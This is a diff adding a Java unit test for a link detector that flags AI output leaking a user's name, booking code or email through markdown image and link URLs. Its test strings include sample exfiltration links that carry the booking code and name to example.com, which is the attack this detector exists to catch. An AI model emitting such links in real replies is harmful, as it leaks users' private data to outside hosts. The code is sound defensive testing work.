@@ -71,6 +71,38 @@ class LinkDetectorTest {
   }
 
   @Test
+  void takesSensitiveValuesFromTheRequestTextsInTheContext() {
+    var ctx = new dev.palisade.detect.DetectionContext() {
+      @Override
+      public dev.palisade.detect.Channel channel() {
+        return dev.palisade.detect.Channel.OUTPUT;
+      }
+
+      @Override
+      public String systemPrompt() {
+        return "";
+      }
+
+      @Override
+      public List<String> canaries() {
+        return List.of();
+      }
+
+      @Override
+      public List<String> requestTexts() {
+        return List.of("Hi, I am Jane Roe, my booking code is QX77Z1 and my mail is jane.roe@mail.test. "
+            + "Please summarise the attached itinerary and tell me which hotel is closest to the venue.");
+      }
+    };
+    assertThat(ALLOW.detect("![a](https://example.com/p.png?c=QX77Z1)", ctx)).singleElement()
+        .satisfies(f -> assertThat(f.score()).isEqualTo(1.0));
+    assertThat(ALLOW.detect("[b](https://example.com/x?who=Jane+Roe)", ctx)).hasSize(1);
+    assertThat(ALLOW.detect("[c](https://example.com/hotels)", ctx)).isEmpty();
+    assertThat(LinkDetector.sensitivePieces(ctx.requestTexts()))
+        .contains("QX77Z1", "jane.roe@mail.test", "Jane Roe").doesNotContain("Please", "itinerary");
+  }
+
+  @Test
   void textWithoutLinksIsCheap() {
     assertThat(ALLOW.detect("plain words, no links at all")).isEmpty();
     assertThat(ALLOW.detect("")).isEmpty();
